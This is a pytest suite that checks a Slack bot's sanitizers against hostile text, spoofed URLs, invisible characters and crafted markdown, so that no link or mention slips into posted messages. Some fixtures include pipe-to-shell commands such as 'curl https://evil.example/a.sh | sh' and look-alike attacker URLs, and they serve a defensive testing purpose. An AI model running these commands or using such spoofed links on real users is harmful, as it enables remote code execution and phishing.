"""Nothing dangerous goes out: hostile text through every surface, judged strictly."""

from __future__ import annotations

import ast
import re
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.context.linked_section import LinkedSection
from agents.steps import Step
from bot.blocks.fallbacks import fallback_versions, plain_version
from bot.blocks.plan import ProgressPlan, changes
from bot.blocks.render import fallback, render, text_message, working
from bot.blocks.sanitize.markdown import sanitize_markdown
from bot.blocks.sanitize.text import (
    Links,
    encode_url,
    is_web,
    links_to,
    sanitize_mrkdwn,
    sanitize_plain,
    strip_invisible,
)
from bot.feature import Verdicts
from bot.features.answering.earlier_threads import EarlierThread, with_earlier
from bot.features.handoff.store import Handoff
from bot.features.handoff.views import card, resolution_view
from bot.features.home.service import suggested_prompts
from bot.features.home.views import IndexStatus, JustAsked, Offered, Report, blocks
from bot.features.link_previews.views import entity, preview
from bot.posting.streaming import visible_part
from bot.questions.store import QuestionRecord, encode_answer
from bot.slack.messages import permalink
from config.domain import Example
from enrichment.chunk import DocumentCard
from playground.page.safe_markup import Markup
from playground.page.shown_messages import Render
from playground.slack.workspace import Workspace
from tests.bot.fakes import answer, domain
from tests.bot.hostile_text import (
    BY_HAND,
    REVIEWED,
    in_blocks,
    in_markdown,
    in_mrkdwn,
    in_words,
    payloads,
)

NOW = datetime(2026, 11, 22, tzinfo=UTC)
CITED = "https://docs.google.com/document/d/KEY/edit#heading=h.age"
ALLOWED = frozenset((CITED,))
WIKI = "wiki.tidewater.example"
KEPT = QuestionRecord(
    id="C1:1.0", event_id="E1", domain="security", channel="C1", thread_ts="1.0", asker="U0YOU",
    text="", state="posted", answer=None, path="company_specific_rag_success", confidence=0.9,
    reference="", resolved_by="", asked_at=NOW,
)  # fmt: skip
TEAM = "https://tidewater.slack.example"
PAGE = Render(Markup(Workspace()))
PAYLOADS = payloads()


def on_the_page(shown: list[dict[str, Any]]) -> list[str]:
    """Links and mentions that the playground's page draws, but for the citation's."""
    html = str(PAGE.decorated(shown))
    hrefs = [url for url in re.findall(r'href="([^"]*)"', html) if url != CITED]
    return [*hrefs, *re.findall(r'class="mention \w+"', html)]


@pytest.mark.parametrize("text", REVIEWED)
def test_what_the_patterns_let_through_is_no_link(text: str) -> None:
    assert in_markdown(sanitize_markdown(text, links_to([], [WIKI]))) == []


def test_the_corpus_is_not_small() -> None:
    assert len(set(PAYLOADS)) >= 600
    assert len(BY_HAND) >= 300


def test_the_judge_sees_what_is_hostile() -> None:
    """Of the payloads as they came, nearly all are seen as links or pings by the judge."""
    unseen = [text for text in PAYLOADS if not (in_markdown(text) or in_mrkdwn(text))]
    assert len(unseen) < len(PAYLOADS) * 0.1


@pytest.mark.parametrize("kind", ["as it is", "refused", "many times"])
def test_answers_link_and_ping_nothing(kind: str) -> None:
    many = kind == "many times"  # so that it is cut, wherever that may be
    for text in PAYLOADS[::4] if many else PAYLOADS:
        said = f"{text}\n\n" * 30 if many else text
        for message in render(answer(said), question_id="C1:1.0", notes=[text], now=NOW):
            for sent in fallback_versions(message)[1:] if kind == "refused" else [message]:
                assert in_mrkdwn(sent.text) == [], text
                assert in_blocks(sent.blocks, ALLOWED) == [], text
                assert on_the_page(sent.blocks) == [], text


def test_tables_of_answers_link_and_ping_nothing() -> None:
    for text in PAYLOADS[::2]:
        cell = text.replace("\n", " ").replace("|", "\\|")
        for head in ("| a | b |\n|---|---|", f"| {'a | ' * 25}\n{'|---' * 25}|"):
            for message in render(answer(f"{head}\n| {cell} | {cell} |"), question_id="q", now=NOW):
                for sent in fallback_versions(message):
                    assert in_mrkdwn(sent.text) == [], text
                    assert in_blocks(sent.blocks, ALLOWED) == [], text
                    assert on_the_page(sent.blocks) == [], text


def test_what_was_made_harmless_stays_as_it_is() -> None:
    links = links_to([CITED], [WIKI])
    for text in PAYLOADS:
        once = sanitize_markdown(text, links)
        assert sanitize_markdown(once, links) == once


def test_a_stream_is_harmless_wherever_it_is_cut() -> None:
    for text in PAYLOADS:
        if len(text) > 600:
            continue
        shown = ""
        step = max(1, len(text) // 40)
        for end in range(1, len(text) + 1, step):
            now = visible_part(text[:end])
            if now.startswith(shown) and now != shown:
                assert in_markdown(now[len(shown) :].strip()) == [], (text, end)
                shown = now
            assert in_markdown(shown) == [], (text, end)


def test_a_stream_shows_an_ordinary_answer_as_it_grows() -> None:
    text = (
        "Rotate them every **90 days** [1]; run `oncall check` first. Then:\n\n"
        "1. Stop the *old* one\n2. Start it\n\n```sh\nmake start\n```\n\n- done\n- really\n"
    )
    shown, steps = "", 0
    for end in range(1, len(text) + 1):
        now = visible_part(text[:end])
        assert now.startswith(shown), (text[:end], shown, now)
        steps += now != shown
        shown = now
    assert steps > 15
    assert shown == text.rstrip().removesuffix("- really").rstrip() + "\n- really"


def test_documents_words_in_sources_link_and_ping_nothing() -> None:
    for text in PAYLOADS:
        cited = replace(answer().citations[0], title=text, heading=text, quote=text, document=text)
        odd = replace(cited, url=text)
        own = ALLOWED | ({encode_url(text)} if is_web(text) else set())  # its own address
        for message in render(answer(citations=(cited, odd)), question_id="q", now=NOW):
            assert in_blocks(message.blocks, own) == [], text
        asked_back = answer(path="ambiguous_query", citations=(), options=(text, text))
        for message in render(asked_back, question_id="q", now=NOW, lead=sanitize_mrkdwn(text)):
            assert in_blocks(message.blocks) == [], text


def test_cards_views_and_lines_link_and_ping_nothing() -> None:
    allowed = ALLOWED | {permalink(TEAM, KEPT)}
    own = frozenset(("@U0YOU", "@U0DANA", "#C0SECURITY", "#C0PRIVACY"))
    for text in PAYLOADS:
        for shown in surfaces(text):
            assert in_blocks(shown, allowed, own) == [], text


def surfaces(text: str) -> Iterator[Any]:
    """Whatever else is posted or shown that holds the words of others."""
    kept = replace(KEPT, text=text, answer=encode_answer(answer(strip_invisible(text))))
    for resolution in ("", text):
        handoff = Handoff(
            question_id="q", channel="C1", card_ts="1", called="U0DANA", requested_by="U0YOU",
            taken_by="", resolved_by="U0DANA" if resolution else "", resolution=resolution,
        )  # fmt: skip
        spoken = domain(escalation={"user": "U0DANA", "message": text})
        post = card(kept, handoff, spoken, NOW)
        yield [{"type": "mrkdwn", "text": post.text, "verbatim": True}, *post.blocks]
    yield resolution_view("q")
    titled = domain().model_copy(
        update={"title": text, "examples": [Example(question=text, documents=["d"])] * 4}
    )
    week = Verdicts()
    status = IndexStatus(generation=1, documents=1)
    report = Report(
        domain=titled, index=status, this_week=week, last_week=week, questions=1, passages=0,
        failing=[kept], readable={kept.channel},
    )  # fmt: skip
    troubled = replace(report, problems=[text])
    offered = Offered(domain=titled, questions=[text] * 4)
    chosen = JustAsked(question=text, address=permalink(TEAM, kept))
    yield list(blocks([offered], [troubled], [kept], TEAM, "", chosen))
    yield suggested_prompts([titled])
    found = DocumentCard(
        id="d", title=text, url=CITED, summary="", owner=text, status=text, superseded_by="d2"
    )
    linked = LinkedSection(
        card=found, heading=text, text=text, url=CITED, successor=replace(found, id="d2")
    )
    yield preview(linked, NOW)["blocks"]
    fields = entity(linked, NOW)["entity_payload"]
    shown = [fields["attributes"]["title"], *fields["fields"].values(), *fields["custom_fields"]]
    yield [{"type": "plain_text", "text": f.get("text") or f["value"]} for f in shown]
    place = EarlierThread(channel=text, permalink=permalink(TEAM, kept), at=NOW)
    yield with_earlier([text_message("")], [place])[0].blocks[1:]
    plan = ProgressPlan(title=text).doing(Step.READ, text)
    for shown in (plan, plan.writing(), plan.failed()):
        yield list(changes(None, shown))
        for waiting in fallback_versions(working(shown)):
            yield [{"type": "mrkdwn", "text": waiting.text, "verbatim": True}, *waiting.blocks]
    yield {"text": sanitize_plain(text)}


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        (f"https://{WIKI}/keys?x=1#y", True),
        (f"http://{WIKI}", True),
        (f"HTTPS://{WIKI.upper()}/", True),
        (f"https://sub.{WIKI}:8443/", True),
        (f"https://{WIKI}/a(b)_%20c", True),
        (CITED, True),
        (f"{CITED}x", False),
        (f"https://{WIKI}.evil.example/", False),
        (f"https://evil-{WIKI}/", False),
        (f"https://{WIKI}@evil.example/", False),
        (f"https://user:pass@{WIKI}/", False),
        (f"https://{WIKI}\\@evil.example/", False),
        (f"https://evil.example\\.{WIKI}/", False),
        (f"https://evil.example/.{WIKI}", False),
        (f"https://evil.example#.{WIKI}", False),
        (f"https://evil.example%2f.{WIKI}/", False),
        (f"https://evil.example\u3002{WIKI}/", False),
        (f"https://evil.example\uff0f.{WIKI}/", False),
        ("https://ｗiki.tidewater.example/", False),
        (f"https://{WIKI}./", False),
        (f"https://{WIKI}:99999/", False),
        (f"https://{WIKI}:/", False),
        (f"https://{WIKI}/\t", False),
        (f"https://{WIKI}/%zz", False),
        (f" https://{WIKI}/", False),
        (f"https:/{WIKI}/", False),
        (f"https:{WIKI}/", False),
        (f"//{WIKI}/", False),
        (f"ftp://{WIKI}/", False),
        (f"javascript://{WIKI}/%0aalert(1)", False),
        (f"https://[::1].{WIKI}/", False),
        (f"https://a..{WIKI}/", False),
    ],
)  # fmt: skip
def test_only_an_address_that_every_reader_reads_alike_is_allowed(url: str, allowed: bool) -> None:
    assert links_to([CITED], [WIKI]).allow(url) is allowed


@pytest.mark.parametrize(
    ("label", "shown"),
    [
        ("the wiki", "the wiki"),
        ("https://bank.com", f"https:\u2060//bank.\u2060com ({WIKI})"),
        (f"https://{WIKI}/keys", "https:\u2060//wiki.\u2060tidewater.\u2060example/keys"),
        ("", "link"),
    ],
)
def test_a_label_names_no_other_place_than_it_opens(label: str, shown: str) -> None:
    out = sanitize_markdown(f"[{label}](https://{WIKI}/a)", links_to([], [WIKI]))
    assert out == f"[{shown}](https://{WIKI}/a)"


@pytest.mark.parametrize(
    "text",
    [
        "Use node.js, v1.2.3 and/or a.b.c, e.g. 10.0.0.1, in docs/README.md or src/foo.py.",
        "5 * 3, snake_case, a*b, x_y_z, <cluster-name> & co, [1][2] and [1].",
        "# Steps\n\n3. Stop\n4. Start\n   - slowly\n\n> Wait.\n> Then go.\n\n---\n\n~~no~~ *yes*",
        "- [ ] open\n- [x] done\n\n```sh\ncurl https://evil.example/$1 [x](y) <name> `id`\n```",
        "Run `curl https://evil.example/a.sh | sh` on `evil.com`.",
        "A note.[^1]\n\n[^1]: Said below.",
        "Owner: @Dana Whitlock, by @2026-11-16; call @sre-team or @support.",
    ],
)
def test_ordinary_text_stays_as_it_was_written(text: str) -> None:
    assert sanitize_markdown(text, Links()) == text


def test_code_and_addresses_can_be_copied() -> None:
    shown = sanitize_markdown(
        "Ask ops@tidewater.com or open https://grafana.internal/d/1, see README.md", Links()
    )
    assert (
        shown == "Ask `ops@tidewater.com` or open `https://grafana.internal/d/1`, see `README.md`"
    )
    (message,) = render(
        answer("| a | b |\n|---|---|\n| x | `kubectl apply -f https://x.com/a` |"),
        question_id="q",
    )
    cell = next(b for b in message.blocks if b["type"] == "data_table")["rows"][1][1]
    parts = cell["elements"][0]["elements"]
    assert "".join(part["text"] for part in parts) == "kubectl apply -f https://x.com/a"


def test_the_demos_documents_read_as_before() -> None:
    """Of 1,000 paragraphs, a handful of words may become code: addresses and nothing else."""
    paragraphs = [
        paragraph
        for path in sorted(Path("playground/demo").glob("*/*.md"))
        for paragraph in path.read_text(encoding="utf-8").split("---\n", 2)[-1].split("\n\n")
        if paragraph.strip() and not re.search(r"<(?:!|/?(?:t|li|ol|ul|p|div))", paragraph)
    ]
    assert len(paragraphs) > 200
    changed = words = 0
    for paragraph in paragraphs:
        before = read(re.sub(r"\]\(doc:[^)]*\)", "](https://x.example)", paragraph))
        after = read(sanitize_markdown(paragraph, Links()))
        words += len(before)
        changed += sum(a != b for a, b in zip(before, after, strict=True))
    assert changed <= 1 < 30_000 < words


def read(markdown: str) -> list[str]:
    """Words as a page shows them, code in backticks."""
    html = Markup(Workspace()).markdown(markdown)
    return re.sub(r"<[^>]+>", "", re.sub(r"<(?:/code|code[^>]*)>", "`", html)).split()


@pytest.mark.parametrize("inside", ["https://evil.example/a ", "evil.com ", "<!here> ", "word "])
def test_a_cut_within_code_frees_nothing(inside: str) -> None:
    for text in (
        f"`{inside * 2_000}`",
        f"x `{inside * 400}` {inside * 900}",
        f"```\n{inside * 3_000}",
    ):
        for message in render(answer(text), question_id="q", now=NOW):
            for sent in fallback_versions(message):
                assert in_blocks(sent.blocks, ALLOWED) == []
                assert in_mrkdwn(sent.text) == []


HOSTILE = st.sampled_from([
    "`", "``", "```", "~~~", "\n", "\n\n", " ", "[", "]", "(", ")", "<", ">", "|", "!", "*",
    "**", "_", "~~", "\\", "&", ";", "#", "# ", "> ", "- ", "1. ", "    ", "\t",
    "https://evil.example/x", "evil.com", "//", ":", "@", "here", "<!channel>", "<@U0123456789>",
    "&lt;", "&#64;", "&#x60;", "[x](", "](https://evil.example)", "[x]: ",
    "| a | b |\n|---|---|\n", "<b>", "</b>", "<!--", "-->", "\u200b", "\u2060", "\u202e",
    "\u00ad", "ｅvil．com", "a", "1", ".", "-", "\ud800", "<a href=", "'", '"',
    "mailto:a@evil.com", "www.evil.com", f"https://{WIKI}/", "<br>", "\r", "\x00", "é", "中",
])  # fmt: skip
hostile = st.lists(HOSTILE, max_size=30).map("".join)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(hostile)
def test_no_text_links_or_pings(text: str) -> None:
    allowed = frozenset((f"https://{WIKI}/",))
    once = sanitize_markdown(text, links_to(allowed))
    assert in_markdown(once, allowed) == []
    assert in_markdown(sanitize_markdown(once, links_to(allowed)), allowed) == []
    assert in_words(sanitize_plain(text)) == []
    assert in_mrkdwn(sanitize_mrkdwn(text)) == []
    assert in_mrkdwn(fallback(text)) == []
    for message in render(answer(text, citations=()), question_id="q", now=NOW):
        assert in_blocks(message.blocks) == []
        assert in_blocks(plain_version(message).blocks) == []


@settings(max_examples=150, deadline=None, derandomize=True)
@given(hostile, st.lists(st.integers(0, 200), max_size=8))
def test_no_stream_links_or_pings(text: str, ends: list[int]) -> None:
    shown = ""
    for end in [*sorted(ends), len(text)]:
        now = visible_part(text[:end])
        if now.startswith(shown):
            shown = now
        assert in_markdown(shown) == []


CALLS = {
    ("access/directory.py", "conversations.info"): "nothing",
    ("access/directory.py", "conversations.members"): "nothing",
    ("access/directory.py", "users.conversations"): "nothing",
    ("access/directory.py", "users.info"): "nothing",
    ("access/directory.py", "users.list"): "nothing",
    ("access/directory.py", "users.lookupByEmail"): "nothing",
    ("connection.py", "auth.test"): "nothing",
    ("connection.py", "chat.postMessage"): "mrkdwn",
    (
        "features/alerts/replies.py",
        "chat.update",
    ): "what stood there, and test_outgoing_features.py",
    ("features/alerts/replies.py", "conversations.replies"): "nothing",
    (
        "features/answering/earlier_threads.py",
        "assistant.search.context",
    ): "nothing that anybody sees",
    ("features/answering/screenshots.py", "files.info"): "nothing",
    ("features/answering/screenshots.py", "files.slack.com"): "nothing: the host of files",
    (
        "features/answering/service.py",
        "chat.postEphemeral",
    ): "a_refusal, and gate.py's own sentences",
    ("features/answering/service.py", "chat.postMessage"): "a_refusal, and gate.py's own sentences",
    ("features/budgets/service.py", "chat.postMessage"): "mrkdwn",
    ("features/checklists/feature.py", "chat.postEphemeral"): "the bot's own sentences",
    ("features/checklists/feature.py", "views.open"): "the bot's own sentences",
    ("features/checklists/posts.py", "chat.update"): "test_outgoing_features.py: checklists",
    ("slack/messages.py", "users.info"): "test_outgoing_features.py: checklists",
    ("features/digest/service.py", "conversations.history"): "nothing",
    ("features/freshness/feature.py", "views.open"): "cards_views",
    ("features/gaps/report.py", "conversations.history"): "nothing",
    (
        "features/handoff/notifications.py",
        "chat.update",
    ): "test_escalation.py: ids of people, and names of levels",
    (
        "features/handoff/service.py",
        "chat.update",
    ): "cards_views; what stood there, and ids of people",
    ("features/handoff/service.py", "reactions.add"): "nothing",
    ("features/home/service.py", "assistant.threads.setSuggestedPrompts"): "cards_views",
    ("features/home/service.py", "chat.postMessage"): "mrkdwn",
    ("features/home/service.py", "views.publish"): "cards_views",
    ("features/link_previews/service.py", "chat.unfurl"): "cards_views",
    ("features/link_previews/service.py", "entity.presentDetails"): "cards_views: plain",
    (
        "features/owner_drafts/feature.py",
        "views.open",
    ): "as the draft above it, and what is typed in a field",
    ("features/owner_drafts/posts.py", "chat.update"): "test_outgoing_features.py: drafts",
    ("features/owner_drafts/posts.py", "conversations.history"): "nothing",
    ("posting/live_answer.py", "assistant.threads.setStatus"): "cards_views: plain",
    ("posting/live_answer.py", "assistant.threads.setTitle"): "cards_views: plain",
    ("posting/live_answer.py", "chat.update"): "a_stream, cards_views: steps",
    ("posting/posts.py", "chat.delete"): "nothing",
    ("posting/posts.py", "chat.postMessage"): "answers, cards_views",
    ("posting/posts.py", "chat.stopStream"): "nothing",
    ("posting/posts.py", "chat.update"): "answers",
    ("posting/streaming.py", "chat.appendStream"): "a_stream, cards_views: steps",
    ("posting/streaming.py", "chat.startStream"): "a_stream, cards_views: steps",
    ("rotas/on_call.py", "users.info"): "nothing",
    ("setup_checks.py", "apps.connections.open"): "nothing",
    ("setup_checks.py", "chat.postMessage"): "mrkdwn",
    ("setup_checks.py", "conversations.history"): "nothing",
    ("setup_checks.py", "conversations.info"): "nothing",
    ("setup_checks.py", "conversations.list"): "nothing",
    ("setup_checks.py", "users.info"): "nothing",
    ("setup_checks.py", "users.lookupByEmail"): "nothing",
    ("features/changes/collect.py", "conversations.history"): "nothing",
    ("features/drills/outside.py", "conversations.info"): "nothing",
    ("features/drills/outside.py", "conversations.list"): "nothing",
    ("features/drills/outside.py", "users.info"): "nothing",
    ("features/owner_drafts/service.py", "chat.update"): "numbers, and the bot's own sentences",
    ("features/snooze/feature.py", "views.open"): "test_outgoing_features.py: snoozes",
    ("features/snooze/service.py", "chat.update"): "test_outgoing_features.py: snoozes",
    ("features/timeline/service.py", "chat.postEphemeral"): "test_timeline.py, with hostile words",
    ("features/timeline/service.py", "conversations.replies"): "nothing",
    ("features/track_record/service.py", "chat.delete"): "nothing",
    ("features/track_record/service.py", "chat.update"): "test_outgoing_features.py: grades",
    ("slack/messages.py", "chat.postEphemeral"): "the bot's own sentences",
    ("slack/messages.py", "conversations.replies"): "nothing",
    ("slack/messages.py", "views.open"): "cards_views",
    ("slack/socket_mode.py", "apps.connections.open"): "nothing",
}
"""(module of `bot`, method of Slack's) → by which test here the words in it are harmless."""


def test_every_call_of_slack_is_known() -> None:
    """Whoever adds one says here what makes the words in it harmless."""
    method = re.compile(
        r"(?:api|apps|assistant|auth|chat|conversations|entity|files|reactions|users|views)"
        r"\.[a-zA-Z.]+"
    )
    found = {
        (str(path.relative_to("bot")), node.value)
        for path in Path("bot").rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Constant)
        and isinstance(node.value, str)
        and method.fullmatch(node.value)
        and path.name != "manifest.py"
    }
    assert found == set(CALLS)


CRAFTED = [
    "[", "![", "[\\", "](", "[x](", "\\", "*", "*a ", "**a_", "`", "`a``b", "<", "<a ", "<!--",
    "<![CDATA[", "&", ">", "> ", "- ", "1. ", "|", "|-|\n", "# a\n", "```\n", "~~a", "[a]: b\n",
    "[a]", "\n", "    a\n", "![[]", "[*_`", "- a\n", "a.", "a:", "://", "www.", "<!", "@",
    "@here ", "<a|b>", "\u200b", "＠", "_",
]  # fmt: skip


@pytest.mark.parametrize(
    "work", [lambda text: sanitize_markdown(text, Links()), sanitize_mrkdwn, visible_part]
)
def test_crafted_text_costs_about_what_plain_text_costs(work: Callable[[str], object]) -> None:
    """A ratio: the least of three, with room for a busy machine."""
    plain_text = ("Keys are rotated every ninety days by whoever is on call that week. " * 250)[
        :16_000
    ]
    usual = least(work, plain_text)
    for sign in CRAFTED:
        assert least(work, (sign * 16_000)[:16_000]) < 20 * usual, sign


def least(work: Callable[[str], object], text: str) -> float:
    times = []
    for _ in range(3):
        start = time.process_time()
        work(text)
        times.append(time.process_time() - start)
    return min(times)
